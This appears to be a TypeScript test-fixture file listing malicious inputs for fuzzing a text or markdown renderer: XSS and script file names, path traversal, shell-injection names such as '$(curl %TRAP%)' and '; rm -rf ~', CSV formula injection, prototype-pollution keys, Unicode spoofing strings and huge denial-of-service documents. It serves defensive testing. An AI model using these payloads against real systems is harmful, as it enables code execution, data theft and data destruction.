/** Names of files, tools, projects and people; cells; letters that are not what they look like. */
const names = [
  'report.md"><img src=x onerror=%RUN%>.md',
  "<script>%RUN%</script>.txt",
  "../../../../etc/passwd",
  "..\\..\\windows\\system32\\x.dll",
  "/v1/spaces/x",
  "C:\\x\\con.txt",
  "aux",
  ".",
  "..",
  "a\u0000.md",
  "a\nb.md",
  "invoice\u202efdp.exe",
  "\u2066evil\u2069.pdf",
  "rechnung.pdf                                                  .exe",
  "javascript:%RUN%",
  "data:text/html,<script>%RUN%</script>",
  "%2e%2e%2f%2e%2e%2fx",
  "#/a/x/y.0",
  "?scene=x&lang=ko",
  "file'onload='%RUN%",
  "`$(curl %TRAP%)`",
  "$(touch x).md",
  "; rm -rf ~;.md",
  "|cat /etc/passwd",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  "prototype",
  "valueOf",
  "\ud800",
  "\udc00\ud800",
  "\ufffe\uffff",
  "n\u0303o\u0302rmal.md",
];
const cells = [
  "=cmd|' /C calc'!A0,1\n2,3",
  'a,b\n=HYPERLINK("%TRAP%";"x"),1',
  "a,b\n@SUM(1+1)*cmd|' /C calc'!A0,2",
  'a,b\n+IMPORTXML("%TRAP%"),1',
  'a\n"<img src=x onerror=%RUN%>"',
  '"unclosed\na,b\n<script>%RUN%</script>',
  "sep=;\n<svg onload=%RUN%>;2",
  "__proto__,constructor\n1,2",
  ",,,,\n,,,,\n",
  '"""""""\n,"',
  "a\tb\n<b onclick=%RUN%>\t2",
];
const letters = [
  "\u202eno gnihton si siht\u202c",
  "if (admin\u2066) // \u2069\u2066 check \u2069",
  "pay\u200bpal\u200c.com\u200d\ufeff",
  "\u200f\u200e\u061c\u202a\u202b\u202d",
  "\u2028\u2029\u0085",
  "\u001b[2J\u001b[1;1H\u001b]8;;%TRAP%\u0007press\u001b]8;;\u0007",
  "\u0007\u0008\u000c\u007f",
  `Z${"\u0351\u0363\u0342".repeat(2_000)}algo`,
  "\ufdfd".repeat(500),
  "👩‍👩‍👧‍👦".repeat(300),
  "\u{e0041}\u{e0042}\u{e0043} tags nobody sees",
  "а\u0440\u0440\u04cf\u0435.com",
  "\u3164\u115f\u1160\u00ad",
  "한글\u1100\u1161\u11a8".repeat(200),
  "\r\r\r\n\r",
];

export const textPayloads: readonly string[] = [...names, ...cells, ...letters];

const many = (text: string, count: number): string => text.repeat(count);

/** Nothing in them but size and depth: the page must go on answering. */
export const heavyPayloads: readonly { name: string; text: string }[] = [
  { name: "lists 50,000 deep on one line", text: `${many("- ", 50_000)}x` },
  {
    name: "lists 500 deep, line by line",
    text: Array.from({ length: 500 }, (_, at) => `${many("  ", at)}- x`).join("\n"),
  },
  { name: "quotes 50,000 deep", text: `${many(">", 50_000)}x` },
  { name: "50,000 open brackets", text: many("[", 50_000) },
  { name: "50,000 open pictures", text: many("![", 50_000) },
  { name: "50,000 stars", text: many("*a **a ", 25_000) },
  { name: "a table of 400 columns and 200 rows", text: tableOf(400, 200) },
  { name: "a table of 20 columns and 5,000 rows", text: tableOf(20, 5_000) },
  { name: "a table's head with no end", text: `${many("|a", 50_000)}\n${many("|-", 50_000)}` },
  { name: "100,000 lines", text: many("a\n", 100_000) },
  { name: "a line of 5 MB", text: many("a", 5_000_000) },
  { name: "5 MB of markup", text: many("**a** `b` [c](d) <e>\n", 240_000) },
];

function tableOf(columns: number, rows: number): string {
  const row = many("| x ", columns);
  return [row, many("| - ", columns), ...Array.from({ length: rows }, () => row)].join("\n");
}
